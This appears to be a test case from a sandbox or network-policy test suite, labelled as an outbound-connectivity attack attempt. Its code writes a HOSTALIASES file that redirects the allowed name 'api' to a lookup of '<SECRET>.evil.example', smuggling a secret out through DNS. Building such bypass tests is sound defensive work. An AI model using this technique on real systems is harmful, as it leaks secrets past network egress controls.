# class: network
# rule: outbound_connectivity
# policy: names.yaml
# quiet: the allowed name is looked up unchanged, and nothing is refused
# alerts: true
# success: a file of aliases turns a lookup of a short allowed name into one that carries data
# proof: query
# needs: resolver
import os
import socket

from attack import SECRET, attempt


@attempt
def ask():
    with open("aliases", "w") as opened:
        opened.write("api %s.evil.example\n" % SECRET)
    os.environ["HOSTALIASES"] = os.path.abspath("aliases")
    os.environ["LOCALDOMAIN"] = "allowed.example"
    try:
        return any(each[4][0] == "127.66.66.66" for each in socket.getaddrinfo("api", 443))
    except PermissionError:
        return False
